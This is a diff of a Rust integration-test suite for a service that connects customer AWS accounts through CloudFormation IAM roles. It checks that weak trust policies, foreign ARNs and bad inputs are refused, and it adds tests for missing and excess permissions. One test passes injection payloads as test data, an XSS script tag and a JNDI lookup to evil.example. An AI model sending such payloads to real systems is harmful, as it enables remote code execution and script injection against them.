@@ -9,7 +9,7 @@ use latchkey_tests::{
     Error,
     customer::Customer,
     scene::{Scene, settled, text},
-    stack_template::{StackTemplate, trust_policy},
+    stack_template::{PUBLISHED_ACTIONS, StackTemplate, trust_policy},
 };
 use serde_json::{Value, json};
 
@@ -20,11 +20,19 @@ const IMPATIENT: u32 = 30;
 fn assert_waits_again(connection: &Value, code: ReasonCode) {
     assert_eq!(connection["status"], "pending", "{connection}");
     assert_eq!(connection["reason"]["code"], code.as_str());
-    assert!(connection["reason"]["message"].as_str().unwrap().contains(code.sentence()));
+    assert!(
+        connection["reason"]["message"]
+            .as_str()
+            .unwrap()
+            .contains(code.sentence())
+    );
     assert_eq!(connection["role_arn"], Value::Null);
     assert_eq!(connection["stack_id"], Value::Null);
     assert_eq!(connection["last_verified_at"], Value::Null);
-    assert!(connection["launch_url"].is_string(), "the same link can be used again");
+    assert!(
+        connection["launch_url"].is_string(),
+        "the same link can be used again"
+    );
 }
 
 /// Launches a template that is refused, in an account of its own, and looks at what is left.
@@ -39,18 +47,28 @@ async fn refused(
     let customer = scene.new_customer("us-east-1").await?;
     let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?);
     let outcome = customer.launch("Refused", &change(template, &customer)).await?;
-    outcome.expect_refusal("ROLLBACK_COMPLETE", code).map_err(|error| format!("{case}: {error}"))?;
+    outcome
+        .expect_refusal("ROLLBACK_COMPLETE", code)
+        .map_err(|error| format!("{case}: {error}"))?;
 
     let shown = api.get(&text(&link, "id")?).await?;
     assert_waits_again(&shown, code);
-    for field in ["external_id", "name", "expires_at", "created_at", "launch_url", "account_id"] {
+    for field in [
+        "external_id",
+        "name",
+        "expires_at",
+        "created_at",
+        "launch_url",
+        "account_id",
+    ] {
         assert_eq!(shown[field], link[field], "{case}: {field}");
     }
     Ok(())
 }
 
 #[tokio::test]
-async fn a_role_without_the_external_id_condition_fails_its_stack_and_the_link_works_again() -> Result<(), Error> {
+async fn a_role_without_the_external_id_condition_fails_its_stack_and_the_link_works_again()
+-> Result<(), Error> {
     let scene = Scene::open()?;
     let api = scene.acme()?;
     let link = scene.link(&api, "eu-west-1").await?;
@@ -61,19 +79,29 @@ async fn a_role_without_the_external_id_condition_fails_its_stack_and_the_link_w
     let outcome = customer.launch("Open", &bad).await?;
     outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::ExternalIdNotEnforced)?;
     assert_waits_again(&api.get(&id).await?, ReasonCode::ExternalIdNotEnforced);
-    assert_eq!(scene.audit_events(&id).await?, ["created", "attempt_started", "attempt_failed"]);
+    assert_eq!(
+        scene.audit_events(&id).await?,
+        ["created", "attempt_started", "attempt_failed"]
+    );
 
-    customer.delete_stack(&outcome.stack_id).await?.expect("DELETE_COMPLETE")?;
+    customer
+        .delete_stack(&outcome.stack_id)
+        .await?
+        .expect("DELETE_COMPLETE")?;
     assert_waits_again(&api.get(&id).await?, ReasonCode::ExternalIdNotEnforced);
 
     customer.launch("Open", &good).await?.expect("CREATE_COMPLETE")?;
     let shown = api.get(&id).await?;
-    assert_eq!((&shown["status"], &shown["reason"]), (&json!("active"), &Value::Null));
+    assert_eq!(
+        (&shown["status"], &shown["reason"]),
+        (&json!("active"), &Value::Null)
+    );
     Ok(())
 }
 
 #[tokio::test]
-async fn a_role_whose_condition_lets_others_in_is_refused_however_the_condition_is_written() -> Result<(), Error> {
+async fn a_role_whose_condition_lets_others_in_is_refused_however_the_condition_is_written()
+-> Result<(), Error> {
     let scene = Scene::open()?;
     let vendor = scene.ready.vendor_account.clone();
     type Trust = Box<dyn Fn(&str, Value) -> Value>;
@@ -100,13 +128,22 @@ async fn a_role_whose_condition_lets_others_in_is_refused_however_the_condition_
         })
     });
     let cases: [(&str, Trust); 8] = [
-        ("StringLike *", condition(|_| json!({ "StringLike": { "sts:ExternalId": "*" } }))),
-        ("StringLike ?…", condition(|_| json!({ "StringLike": { "sts:ExternalId": "?".repeat(32) } }))),
+        (
+            "StringLike *",
+            condition(|_| json!({ "StringLike": { "sts:ExternalId": "*" } })),
+        ),
+        (
+            "StringLike ?…",
+            condition(|_| json!({ "StringLike": { "sts:ExternalId": "?".repeat(32) } })),
+        ),
         (
             "StringLike, ours and a wildcard",
             condition(|id| json!({ "StringLike": { "sts:ExternalId": [id, "*"] } })),
         ),
-        ("StringEqualsIfExists", condition(|id| json!({ "StringEqualsIfExists": { "sts:ExternalId": id } }))),
+        (
+            "StringEqualsIfExists",
+            condition(|id| json!({ "StringEqualsIfExists": { "sts:ExternalId": id } })),
+        ),
         (
             "ForAllValues:StringEquals, true where there is none",
             condition(|id| json!({ "ForAllValues:StringEquals": { "sts:ExternalId": id } })),
@@ -115,16 +152,24 @@ async fn a_role_whose_condition_lets_others_in_is_refused_however_the_condition_
             "StringNotEquals",
             condition(|_| json!({ "StringNotEquals": { "sts:ExternalId": "something-else" } })),
         ),
-        ("a second statement that opens the role to the account", two_statements),
+        (
+            "a second statement that opens the role to the account",
+            two_statements,
+        ),
         ("everybody", everybody),
     ];
     let attempts = cases.iter().map(|(case, trust)| {
-        refused(&scene, case, ReasonCode::ExternalIdNotEnforced, move |template, _| {
-            let connection: Value = serde_json::from_str(&template.text()).unwrap_or_default();
-            let external_id = connection["Resources"]["Connection"]["Properties"]["ExternalId"].clone();
-            let trust = trust(external_id.as_str().unwrap_or_default(), template.vendor_roles());
-            template.trust(trust)
-        })
+        refused(
+            &scene,
+            case,
+            ReasonCode::ExternalIdNotEnforced,
+            move |template, _| {
+                let connection: Value = serde_json::from_str(&template.text()).unwrap_or_default();
+                let external_id = connection["Resources"]["Connection"]["Properties"]["ExternalId"].clone();
+                let trust = trust(external_id.as_str().unwrap_or_default(), template.vendor_roles());
+                template.trust(trust)
+            },
+        )
     });
     try_join_all(attempts).await?;
     Ok(())
@@ -133,10 +178,14 @@ async fn a_role_whose_condition_lets_others_in_is_refused_however_the_condition_
 /// What the probes can see is that a *fresh* external ID is refused, which is what keeps others out (I3). A list of
 /// further values is the customer's own choice and closes nobody's door; a role still belongs to one connection.
 #[tokio::test]
-async fn a_role_that_names_further_external_ids_connects_once_and_belongs_to_one_connection() -> Result<(), Error> {
+async fn a_role_that_names_further_external_ids_connects_once_and_belongs_to_one_connection()
+-> Result<(), Error> {
     let scene = Scene::open()?;
     let (acme, globex) = (scene.acme()?, scene.globex()?);
-    let (first, second) = (scene.link(&acme, "us-east-1").await?, scene.link(&globex, "us-east-1").await?);
+    let (first, second) = (
+        scene.link(&acme, "us-east-1").await?,
+        scene.link(&globex, "us-east-1").await?,
+    );
     let customer = scene.new_customer("us-east-1").await?;
     let template = StackTemplate::new(&scene.ready, &text(&first, "external_id")?).role_name("Shared");
     let both = json!([first["external_id"], second["external_id"]]);
@@ -144,7 +193,10 @@ async fn a_role_that_names_further_external_ids_connects_once_and_belongs_to_one
         "ArnLike": template.vendor_roles(),
         "StringEquals": { "sts:ExternalId": both },
     }));
-    customer.launch("First", &trust).await?.expect("CREATE_COMPLETE")?;
+    customer
+        .launch("First", &trust)
+        .await?
+        .expect("CREATE_COMPLETE")?;
     let before = settled(&acme.get(&text(&first, "id")?).await?);
     assert_eq!(before["status"], "active");
 
@@ -152,24 +204,39 @@ async fn a_role_that_names_further_external_ids_connects_once_and_belongs_to_one
         .claims_role(&customer.role_arn("Shared"));
     let outcome = customer.launch("Second", &greedy).await?;
     outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::RoleAlreadyConnected)?;
-    assert_waits_again(&globex.get(&text(&second, "id")?).await?, ReasonCode::RoleAlreadyConnected);
+    assert_waits_again(
+        &globex.get(&text(&second, "id")?).await?,
+        ReasonCode::RoleAlreadyConnected,
+    );
     assert_eq!(settled(&acme.get(&text(&first, "id")?).await?), before);
     Ok(())
 }
 
 #[tokio::test]
-async fn a_role_that_never_becomes_assumable_fails_its_stack_with_a_sentence_at_the_deadline() -> Result<(), Error> {
+async fn a_role_that_never_becomes_assumable_fails_its_stack_with_a_sentence_at_the_deadline()
+-> Result<(), Error> {
     let scene = Scene::open()?;
     let started = Instant::now();
-    refused(&scene, "another vendor's role", ReasonCode::RoleNotAssumable, |template, _| {
-        let trust = trust_policy("123456789012", template.published_condition());
-        template.trust(trust)
-    })
+    refused(
+        &scene,
+        "another vendor's role",
+        ReasonCode::RoleNotAssumable,
+        |template, _| {
+            let trust = trust_policy("123456789012", template.published_condition());
+            template.trust(trust)
+        },
+    )
     .await?;
     let waited = started.elapsed();
     // 30 seconds in the local deployment; the stack itself would wait for 60.
-    assert!(waited > Duration::from_secs(25), "a role gets the time to become assumable, not {waited:?}");
-    assert!(waited < Duration::from_secs(50), "the answer comes before CloudFormation gives up, not {waited:?}");
+    assert!(
+        waited > Duration::from_secs(25),
+        "a role gets the time to become assumable, not {waited:?}"
+    );
+    assert!(
+        waited < Duration::from_secs(50),
+        "the answer comes before CloudFormation gives up, not {waited:?}"
+    );
     Ok(())
 }
 
@@ -186,12 +253,17 @@ async fn a_role_that_is_not_there_or_asks_for_another_external_id_is_refused() -
     };
     let upper_case = |template: StackTemplate, _: &Customer| {
         let condition = template.published_condition();
-        let id = condition["StringEquals"]["sts:ExternalId"].as_str().unwrap_or_default().to_uppercase();
+        let id = condition["StringEquals"]["sts:ExternalId"]
+            .as_str()
+            .unwrap_or_default()
+            .to_uppercase();
         let condition = json!({ "StringEquals": { "sts:ExternalId": id } });
         template.condition(condition).service_timeout(IMPATIENT)
     };
     let missing = |template: StackTemplate, customer: &Customer| {
-        template.claims_role(&customer.role_arn("Nowhere")).service_timeout(IMPATIENT)
+        template
+            .claims_role(&customer.role_arn("Nowhere"))
+            .service_timeout(IMPATIENT)
     };
     futures::try_join!(
         refused(&scene, "another external ID", code, elsewhere),
@@ -214,16 +286,31 @@ async fn an_account_that_is_connected_is_refused_and_its_connection_is_not_touch
     let outcome = first.customer.launch("Again", &template).await?;
     outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::AccountAlreadyConnected)?;
     assert_eq!(settled(&api.get(&first.id).await?), settled(&first.shown));
-    assert_waits_again(&api.get(&text(&second, "id")?).await?, ReasonCode::AccountAlreadyConnected);
+    assert_waits_again(
+        &api.get(&text(&second, "id")?).await?,
+        ReasonCode::AccountAlreadyConnected,
+    );
 
-    first.customer.delete_stack(&outcome.stack_id).await?.expect("DELETE_COMPLETE")?;
+    first
+        .customer
+        .delete_stack(&outcome.stack_id)
+        .await?
+        .expect("DELETE_COMPLETE")?;
     assert_eq!(settled(&api.get(&first.id).await?), settled(&first.shown));
     assert_eq!(scene.audit_events(&first.id).await?, audit);
 
     // The account is free again once the first stack is gone, and the refused link still works.
-    first.customer.delete_stack(&first.stack.stack_id).await?.expect("DELETE_COMPLETE")?;
+    first
+        .customer
+        .delete_stack(&first.stack.stack_id)
+        .await?
+        .expect("DELETE_COMPLETE")?;
     api.wait_for(&first.id, "disconnected").await?;
-    first.customer.launch("Again", &template).await?.expect("CREATE_COMPLETE")?;
+    first
+        .customer
+        .launch("Again", &template)
+        .await?
+        .expect("CREATE_COMPLETE")?;
     assert_eq!(api.get(&text(&second, "id")?).await?["status"], "active");
     Ok(())
 }
@@ -244,7 +331,10 @@ async fn a_link_made_for_one_account_is_refused_in_another_and_works_in_its_own(
     outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::AccountMismatch)?;
     let shown = api.get(&text(&link, "id")?).await?;
     assert_waits_again(&shown, ReasonCode::AccountMismatch);
-    assert_eq!(shown["account_id"], owner.account, "the thief's account is not shown as the connection's");
+    assert_eq!(
+        shown["account_id"], owner.account,
+        "the thief's account is not shown as the connection's"
+    );
 
     let stack = owner.open(&url, None).await?;
     owner.wait(&stack).await?.expect("CREATE_COMPLETE")?;
@@ -261,11 +351,17 @@ async fn an_expired_link_is_refused_and_stays_expired() -> Result<(), Error> {
     scene.expire_link("acme", &id).await?;
     let shown = api.get(&id).await?;
     assert_eq!(shown["status"], "expired");
-    assert!(shown.get("launch_url").is_none(), "an expired link is not offered any more");
+    assert!(
+        shown.get("launch_url").is_none(),
+        "an expired link is not offered any more"
+    );
 
     let customer = scene.new_customer("us-east-1").await?;
     let stack = customer.open(&url, None).await?;
-    customer.wait(&stack).await?.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::LinkExpired)?;
+    customer
+        .wait(&stack)
+        .await?
+        .expect_refusal("ROLLBACK_COMPLETE", ReasonCode::LinkExpired)?;
     let shown = api.get(&id).await?;
     assert_eq!(shown["status"], "expired");
     assert_eq!(shown["role_arn"], Value::Null);
@@ -276,9 +372,14 @@ async fn an_expired_link_is_refused_and_stays_expired() -> Result<(), Error> {
 async fn an_external_id_that_was_never_issued_is_refused_at_once() -> Result<(), Error> {
     let scene = Scene::open()?;
     let customer = scene.new_customer("us-east-1").await?;
-    for (name, external_id) in [("Guessed", "tz4a98xxat96iws9zmbrgj3atz4a98xx"), ("Chosen", "MyOwnSecret")] {
+    for (name, external_id) in [
+        ("Guessed", "tz4a98xxat96iws9zmbrgj3atz4a98xx"),
+        ("Chosen", "MyOwnSecret"),
+    ] {
         let started = Instant::now();
-        let outcome = customer.launch(name, &StackTemplate::new(&scene.ready, external_id)).await?;
+        let outcome = customer
+            .launch(name, &StackTemplate::new(&scene.ready, external_id))
+            .await?;
         outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::ExternalIdUnknown)?;
         assert!(started.elapsed() < Duration::from_secs(10));
         let left = scene.items_about(&outcome.stack_id).await?;
@@ -288,7 +389,8 @@ async fn an_external_id_that_was_never_issued_is_refused_at_once() -> Result<(),
 }
 
 #[tokio::test]
-async fn a_role_in_another_account_than_the_stack_is_refused_even_if_it_would_be_assumable() -> Result<(), Error> {
+async fn a_role_in_another_account_than_the_stack_is_refused_even_if_it_would_be_assumable()
+-> Result<(), Error> {
     let scene = Scene::open()?;
     let api = scene.acme()?;
     let link = scene.link(&api, "us-east-1").await?;
@@ -299,7 +401,10 @@ async fn a_role_in_another_account_than_the_stack_is_refused_even_if_it_would_be
     let outcome = customer.launch("Borrowed", &template.claims_role(&role)).await?;
     outcome.expect_refusal("ROLLBACK_COMPLETE", ReasonCode::RoleInOtherAccount)?;
     let shown = api.get(&text(&link, "id")?).await?;
-    assert_eq!((&shown["status"], &shown["role_arn"]), (&json!("pending"), &Value::Null));
+    assert_eq!(
+        (&shown["status"], &shown["role_arn"]),
+        (&json!("pending"), &Value::Null)
+    );
     Ok(())
 }
 
@@ -332,15 +437,22 @@ async fn a_tenant_cannot_connect_the_role_of_another_tenants_customer() -> Resul
 }
 
 #[tokio::test]
-async fn two_tenants_connect_one_account_each_with_a_role_of_its_own_and_do_not_see_each_other() -> Result<(), Error> {
+async fn two_tenants_connect_one_account_each_with_a_role_of_its_own_and_do_not_see_each_other()
+-> Result<(), Error> {
     let scene = Scene::open()?;
     let (acme, globex) = (scene.acme()?, scene.globex()?);
     let first = scene.connect(&acme, "us-east-1").await?;
     let link = scene.link(&globex, "us-east-1").await?;
-    let stack = first.customer.open(&text(&link, "launch_url")?, Some("Other-Tenant")).await?;
+    let stack = first
+        .customer
+        .open(&text(&link, "launch_url")?, Some("Other-Tenant"))
+        .await?;
     first.customer.wait(&stack).await?.expect("CREATE_COMPLETE")?;
     let second = globex.get(&text(&link, "id")?).await?;
-    assert_eq!((&second["status"], &second["account_id"]), (&json!("active"), &json!(first.customer.account)));
+    assert_eq!(
+        (&second["status"], &second["account_id"]),
+        (&json!("active"), &json!(first.customer.account))
+    );
     assert_ne!(second["role_arn"], first.shown["role_arn"]);
     assert_eq!(settled(&acme.get(&first.id).await?), settled(&first.shown));
     Ok(())
@@ -350,14 +462,24 @@ async fn two_tenants_connect_one_account_each_with_a_role_of_its_own_and_do_not_
 async fn what_is_not_the_role_of_a_customer_is_refused_at_once() -> Result<(), Error> {
     let scene = Scene::open()?;
     let vendor = scene.ready.vendor_account.clone();
-    let customers_role = |arn: &str, account: &str| arn.replace("ACCOUNT", account).replace("VENDOR", &vendor);
+    let customers_role =
+        |arn: &str, account: &str| arn.replace("ACCOUNT", account).replace("VENDOR", &vendor);
     let cases = [
         ("arn:aws:iam::ACCOUNT:user/somebody", ReasonCode::InvalidRequest),
         ("arn:aws:iam::ACCOUNT:root", ReasonCode::InvalidRequest),
-        ("arn:aws:sts::ACCOUNT:assumed-role/Reader/session", ReasonCode::InvalidRequest),
+        (
+            "arn:aws:sts::ACCOUNT:assumed-role/Reader/session",
+            ReasonCode::InvalidRequest,
+        ),
         ("arn:aws-iso:iam::ACCOUNT:role/Reader", ReasonCode::InvalidRequest),
-        ("arn:aws-cn:iam::ACCOUNT:role/Reader", ReasonCode::RoleInOtherAccount),
-        ("arn:aws:iam::VENDOR:role/latchkey/verifier", ReasonCode::VendorAccount),
+        (
+            "arn:aws-cn:iam::ACCOUNT:role/Reader",
+            ReasonCode::RoleInOtherAccount,
+        ),
+        (
+            "arn:aws:iam::VENDOR:role/latchkey/verifier",
+            ReasonCode::VendorAccount,
+        ),
         ("arn:aws:iam::ACCOUNT:role/*", ReasonCode::InvalidRequest),
         ("", ReasonCode::InvalidRequest),
     ];
@@ -373,9 +495,17 @@ async fn what_is_not_the_role_of_a_customer_is_refused_at_once() -> Result<(), E
             let outcome = customer.launch("Odd", &template).await?;
             let told = outcome.expect_refusal("ROLLBACK_COMPLETE", code);
             told.map_err(|error| format!("{arn}: {error}"))?;
-            assert!(started.elapsed() < Duration::from_secs(10), "{arn} took {:?}", started.elapsed());
+            assert!(
+                started.elapsed() < Duration::from_secs(10),
+                "{arn} took {:?}",
+                started.elapsed()
+            );
             let shown = api.get(&text(&link, "id")?).await?;
-            assert_eq!((&shown["status"], &shown["role_arn"]), (&json!("pending"), &Value::Null), "{arn}");
+            assert_eq!(
+                (&shown["status"], &shown["role_arn"]),
+                (&json!("pending"), &Value::Null),
+                "{arn}"
+            );
             Ok::<_, Error>(())
         }
     });
@@ -384,20 +514,37 @@ async fn what_is_not_the_role_of_a_customer_is_refused_at_once() -> Result<(), E
 }
 
 #[tokio::test]
-async fn garbage_in_the_properties_is_told_to_the_stack_at_once_and_leaves_nothing_behind() -> Result<(), Error> {
+async fn garbage_in_the_properties_is_told_to_the_stack_at_once_and_leaves_nothing_behind()
+-> Result<(), Error> {
     let scene = Scene::open()?;
     let api = scene.acme()?;
     let long = "x".repeat(3_000);
     let cases = [
-        ("RoleArn", json!(["arn:aws:iam::222222222222:role/x"]), "RoleArn is not a text"),
+        (
+            "RoleArn",
+            json!(["arn:aws:iam::222222222222:role/x"]),
+            "RoleArn is not a text",
+        ),
         ("RoleArn", json!({ "a": { "b": "c" } }), "RoleArn is not a text"),
-        ("RoleArn", json!("<script>alert(1)</script>"), "RoleArn is not an ARN"),
+        (
+            "RoleArn",
+            json!("<script>alert(1)</script>"),
+            "RoleArn is not an ARN",
+        ),
         ("RoleArn", json!(long), "RoleArn is not an ARN"),
-        ("TemplateVersion", json!("1.0.0\n[active]"), "TemplateVersion is not a version"),
+        (
+            "TemplateVersion",
+            json!("1.0.0\n[active]"),
+            "TemplateVersion is not a version",
+        ),
         ("TemplateVersion", json!(long), "TemplateVersion is not a version"),
         ("TemplateVersion", json!({}), "TemplateVersion is not a text"),
         ("ExternalId", json!(["a", "b"]), "ExternalId"),
-        ("ExternalId", json!("${jndi:ldap://evil.example/a}"), "never issued this external ID"),
+        (
+            "ExternalId",
+            json!("${jndi:ldap://evil.example/a}"),
+            "never issued this external ID",
+        ),
     ];
     let attempts = cases.map(|(property, value, sentence)| {
         let (scene, api) = (&scene, &api);
@@ -406,15 +553,29 @@ async fn garbage_in_the_properties_is_told_to_the_stack_at_once_and_leaves_nothi
             let customer = scene.new_customer("us-east-1").await?;
             let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?);
             let started = Instant::now();
-            let outcome = customer.launch("Garbage", &template.property(property, value.clone())).await?;
+            let outcome = customer
+                .launch("Garbage", &template.property(property, value.clone()))
+                .await?;
             outcome.expect("ROLLBACK_COMPLETE")?;
             let told = outcome.reasons.iter().any(|reason| reason.contains(sentence));
             assert!(told, "{property} = {value}: {:?}", outcome.reasons);
-            let repeated = value.as_str().is_some_and(|value| outcome.reasons.iter().any(|r| r.contains(value)));
-            assert!(!repeated, "what was sent is not repeated to whoever reads the events");
-            assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
+            let repeated = value
+                .as_str()
+                .is_some_and(|value| outcome.reasons.iter().any(|r| r.contains(value)));
+            assert!(
+                !repeated,
+                "what was sent is not repeated to whoever reads the events"
+            );
+            assert!(
+                started.elapsed() < Duration::from_secs(10),
+                "{:?}",
+                started.elapsed()
+            );
             let shown = api.get(&text(&link, "id")?).await?;
-            assert_eq!((&shown["status"], &shown["reason"]), (&json!("pending"), &Value::Null));
+            assert_eq!(
+                (&shown["status"], &shown["reason"]),
+                (&json!("pending"), &Value::Null)
+            );
             // The rollback's Delete names a genuine external ID: that it came is remembered for a while.
             let left = scene.items_about(&outcome.stack_id).await?;
             assert!(left.iter().all(|key| key.starts_with("DELETED#")), "{left:?}");
@@ -422,5 +583,67 @@ async fn garbage_in_the_properties_is_told_to_the_stack_at_once_and_leaves_nothi
         }
     });
     try_join_all(attempts).await?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_role_that_lacks_what_the_template_asks_for_is_refused_and_each_missing_action_is_named()
+-> Result<(), Error> {
+    let scene = Scene::open()?;
+    let code = ReasonCode::PermissionsMissing;
+    let lacking = |actions: &'static [&'static str]| {
+        move |template: StackTemplate, _: &Customer| template.allows(actions).service_timeout(IMPATIENT)
+    };
+    futures::try_join!(
+        refused(&scene, "no permissions at all", code, lacking(&[])),
+        refused(
+            &scene,
+            "one is missing",
+            code,
+            lacking(&[
+                "iam:GetRole",
+                "iam:SimulatePrincipalPolicy",
+                "ec2:DescribeRegions"
+            ])
+        ),
+    )?;
+
+    let api = scene.acme()?;
+    let link = scene.link(&api, "us-east-1").await?;
+    let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?)
+        .allows(&["iam:SimulatePrincipalPolicy", "iam:GetRole"])
+        .service_timeout(IMPATIENT);
+    let customer = scene.new_customer("us-east-1").await?;
+    let outcome = customer.launch("Lacking", &template).await?;
+    outcome.expect_refusal("ROLLBACK_COMPLETE", code)?;
+    for action in ["ec2:DescribeRegions", "iam:ListAccountAliases"] {
+        assert!(
+            outcome.reasons.iter().any(|reason| reason.contains(action)),
+            "{outcome:?}"
+        );
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_role_that_may_do_more_than_it_was_asked_for_connects_and_is_shown_as_that() -> Result<(), Error> {
+    let scene = Scene::open()?;
+    let api = scene.acme()?;
+    let link = scene.link(&api, "us-east-1").await?;
+    let mut actions = PUBLISHED_ACTIONS.to_vec();
+    actions.extend(["s3:GetObject", "iam:CreateUser"]);
+    let template = StackTemplate::new(&scene.ready, &text(&link, "external_id")?).allows(&actions);
+    let customer = scene.new_customer("us-east-1").await?;
+    customer
+        .launch("Generous", &template)
+        .await?
+        .expect("CREATE_COMPLETE")?;
+    let shown = api.get(&text(&link, "id")?).await?;
+    assert_eq!(shown["status"], "active");
+    assert_eq!(
+        shown["permissions"]["excessive"],
+        json!(["iam:CreateUser", "s3:GetObject"])
+    );
+    assert_eq!(shown["permissions"]["missing"], json!([]));
     Ok(())
 }
